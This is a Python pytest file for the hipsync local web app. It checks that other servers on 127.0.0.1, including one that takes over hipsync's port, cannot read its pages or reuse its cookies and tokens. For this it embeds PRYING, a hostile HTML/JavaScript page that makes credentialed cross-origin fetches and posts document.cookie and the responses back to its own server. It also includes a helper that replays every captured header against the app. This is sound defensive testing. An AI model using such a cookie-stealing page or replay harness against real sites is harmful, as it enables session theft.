"""`hipsync web` in a real browser, beside servers of other people on this computer: they gain nothing.

Every server of 127.0.0.1 gets the cookies of every other, whatever its port, and the one that takes over a port gets
all that the browser keeps for it. Here such servers keep all that they are sent, and it is tried on hipsync.
"""

from __future__ import annotations

import contextlib
import http.client
import http.server
import json
import os
import shutil
import signal
import socket
import subprocess
import threading
import time
from collections.abc import Callable, Generator, Mapping
from pathlib import Path
from typing import Self
from urllib.parse import quote

import pytest
import uvicorn
from starlette.types import Message, Receive, Scope, Send

from hipsync.cli.app import App
from hipsync.cli.site import Site
from hipsync.report.door import Door
from hipsync.report.web import application
from support.builders import MONDAY, day
from support.machine import Machine

pytestmark = [
    pytest.mark.ring,
    pytest.mark.enable_socket,
    pytest.mark.skipif(shutil.which("chromium") is None, reason="there is no chromium here"),
]
SHOWN = 'class="brand"'
"""What every page of hipsync says."""


@pytest.fixture
def machine(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Machine:
    machine = Machine(tmp_path)
    for name, value in machine.environment.items():
        monkeypatch.setenv(name, value)
    machine.band(day("8h sleep, 1h walk, 70m sit", MONDAY))
    return machine


@contextlib.contextmanager
def chromium(home: Path, address: str) -> Generator[None]:
    """A browser that shows an address for as long as the block lasts. Its profile stays."""
    words = ["chromium", "--headless", "--no-sandbox", "--remote-debugging-port=0", f"--user-data-dir={home}/profile"]
    with subprocess.Popen(
        [*words, address], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True
    ) as browser:
        try:
            yield
        finally:
            os.killpg(browser.pid, signal.SIGTERM)
            try:
                browser.wait(10)
            except subprocess.TimeoutExpired:
                os.killpg(browser.pid, signal.SIGKILL)


def open_beside(home: Path, address: str) -> None:
    """Have the browser show an address in another tab, by the port that it keeps for this (DevTools, `/json/new`)."""
    file = home / "profile" / "DevToolsActivePort"
    until(file.exists)
    tools = http.client.HTTPConnection("127.0.0.1", int(file.read_text().splitlines()[0]), timeout=20)
    with contextlib.closing(tools):
        tools.request("PUT", f"/json/new?{quote(address, safe='')}")
        assert tools.getresponse().status == 200


def until(what: Callable[[], bool]) -> None:
    """Wait until something has happened; the test fails if it does not within half a minute."""
    end = time.monotonic() + 30
    while not what():
        assert time.monotonic() < end, "it did not happen"
        time.sleep(0.05)


class Ours:
    """The site under uvicorn, and what was asked of it: the path, the headers and the status of the answer."""

    def __init__(self, machine: Machine, port: int = 0) -> None:
        app = App(lambda: machine.now)
        app.db_path, app.config_path = machine.database, None
        self.asked: list[tuple[str, dict[str, str], int]] = []
        self._socket = socket.create_server(("127.0.0.1", port))
        self.port: int = self._socket.getsockname()[1]
        self.door = Door(time.monotonic)
        self._site = application(Site(app), self.port, self.door)
        config = uvicorn.Config(
            self._kept, interface="asgi3", log_level="error", lifespan="off", ws="none", timeout_graceful_shutdown=1
        )
        self._server = uvicorn.Server(config)
        self._thread = threading.Thread(target=self._server.run, kwargs={"sockets": [self._socket]})

    async def _kept(self, scope: Scope, receive: Receive, send: Send) -> None:
        async def sent(message: Message) -> None:
            if isinstance(status := message.get("status"), int):
                headers = {name.decode(): value.decode() for name, value in scope["headers"]}
                self.asked.append((scope["path"], headers, status))
            await send(message)

        await self._site(scope, receive, sent)

    def ticket(self) -> str:
        return f"http://127.0.0.1:{self.port}/?ticket={self.door.ticket(60)}"

    def shown(self) -> int:
        """How many times a page was given out."""
        return sum(status == 200 for _, _, status in self.asked)

    def ask(self, method: str, path: str, headers: Mapping[str, str]) -> tuple[int, str]:
        connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=10)
        with contextlib.closing(connection):
            connection.putrequest(method, path, skip_host=True)
            for name, value in headers.items():
                connection.putheader(name, value)
            connection.endheaders()
            answer = connection.getresponse()
            return answer.status, answer.read().decode()

    def stop(self) -> None:
        self._server.should_exit = True
        self._thread.join(20)
        self._socket.close()

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self.stop()


class Theirs:
    """Another user's server, which keeps all that it is sent, and answers each time with one page."""

    def __init__(self, page: str, port: int = 0) -> None:
        self.got: list[tuple[str, str, dict[str, str], str]] = []
        self.cookie = ""
        theirs = self

        class Answers(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                body = self.rfile.read(int(self.headers.get("content-length", 0))).decode()
                theirs.got.append((self.command, self.path, {k.lower(): v for k, v in self.headers.items()}, body))
                answer = page.encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(answer)))
                if theirs.cookie:
                    self.send_header("Set-Cookie", f"{theirs.cookie}=theirs; Path=/")
                self.end_headers()
                self.wfile.write(answer)

            do_POST = do_GET  # noqa: N815  http.server's name

            def log_request(self, code: int | str = "-", size: int | str = "-") -> None:
                """Print nothing."""

        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", port), Answers)
        self._server.daemon_threads = True
        self.port: int = self._server.server_address[1]
        self._thread = threading.Thread(target=self._server.serve_forever)

    def told(self) -> list[str]:
        """What its own pages have sent it."""
        return [body for method, path, _, body in self.got if (method, path) == ("POST", "/told")]

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join(20)


PRYING = """<!DOCTYPE html><title>theirs</title><body><script>
const ours = "http://127.0.0.1:PORT", seen = [];
async function pry() {
  for (const path of ["/", "/day/today", "/do/done", "/favicon.ico"])
    for (const method of ["GET", "POST"])
      for (const mode of ["cors", "no-cors"])
        try {
          const answer = await fetch(ours + path, {method, mode, credentials: "include"});
          seen.push([path, method, answer.type, await answer.text()]);
        } catch (error) { seen.push([path, method, String(error)]); }
  await fetch("/told", {method: "POST", body: JSON.stringify([document.cookie, document.referrer, seen])});
  location = ours + "/week/today";
}
pry();
</script>"""


def test_a_server_at_another_port_gets_nothing_that_works(machine: Machine, tmp_path: Path) -> None:
    with Ours(machine) as ours, Theirs(PRYING.replace("PORT", str(ours.port))) as theirs:
        theirs.cookie = f"hipsync-{ours.port}"
        with chromium(tmp_path, ours.ticket()):
            until(lambda: ours.shown() > 0)
            open_beside(tmp_path, f"http://127.0.0.1:{theirs.port}/")
            until(lambda: any(path == "/week/today" for path, _, _ in ours.asked))
        cookie, referrer, seen = json.loads(theirs.told()[0])
        assert (ours.door.cookie in cookie, referrer) == (False, "")
        assert len(seen) == 16
        assert SHOWN not in json.dumps(seen)
        pried = [each for each in ours.asked if each[1].get("sec-fetch-site") == "same-site"]
        assert len(pried) >= 16
        assert {status for *_, status in pried} == {403}, pried
        for secret in (ours.door.word, ours.door.cookie, ours.door.token):
            assert secret not in json.dumps(theirs.got)
        replay(theirs, ours)


def replay(theirs: Theirs, ours: Ours) -> None:
    """Try on our site all that their server was sent, on every path that it was sent to and on ours: all is refused."""
    assert theirs.got
    host = f"127.0.0.1:{ours.port}"
    own = {"host": host, "origin": f"http://{host}", "sec-fetch-site": "same-origin", "sec-fetch-dest": "document"}
    for method, path, headers, _ in theirs.got:
        plain = {name: value for name, value in headers.items() if name in {"cookie", "referer", "user-agent"}}
        for where in {path, "/", "/day/today", "/do/done"}:
            for sent in ({**headers, "host": host}, {**plain, "host": host}, {**plain, **own}):
                sent.pop("content-length", None)
                status, text = ours.ask(method, where, sent)
                assert status in {403, 404, 405}, (method, where, sent)
                assert SHOWN not in text


def test_a_server_that_takes_over_the_port_gets_nothing_that_works(machine: Machine, tmp_path: Path) -> None:
    """A page that was left open asks again each 15 seconds, with all that the browser and the page hold."""
    with Ours(machine) as ours, chromium(tmp_path, ours.ticket()):
        until(lambda: ours.shown() > 1)
        ours.stop()
        with Theirs("<title>theirs</title>", ours.port) as theirs:
            until(lambda: len(theirs.got) > 0)
    held = next(each for each in theirs.got if "/day/today" in each[1])
    assert ours.door.word in held[1], "it was the page that was left open"
    assert ours.door.cookie in held[2]["cookie"]
    assert ours.door.token == held[2]["x-hipsync"]
    with Ours(machine, ours.port) as again:
        replay(theirs, again)
